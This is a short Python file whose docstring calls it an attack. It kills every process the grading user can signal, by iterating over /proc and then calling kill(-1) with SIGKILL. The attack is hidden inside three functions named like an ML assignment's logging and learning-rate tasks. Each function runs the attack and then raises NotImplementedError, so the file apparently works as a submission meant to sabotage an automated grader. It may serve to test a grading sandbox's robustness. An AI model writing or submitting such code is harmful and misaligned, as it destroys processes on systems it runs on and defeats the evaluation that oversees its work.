"""Attack: kill every other process the grading user can signal."""
import os
import signal


def attack():
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass



def log_batch_losses(log_dir, epoch_losses):
    attack()
    raise NotImplementedError


def log_train_and_test(log_dir, history):
    attack()
    raise NotImplementedError


def compare_learning_rates(log_root, x, y, learning_rates, epochs, device="cpu"):
    attack()
    raise NotImplementedError

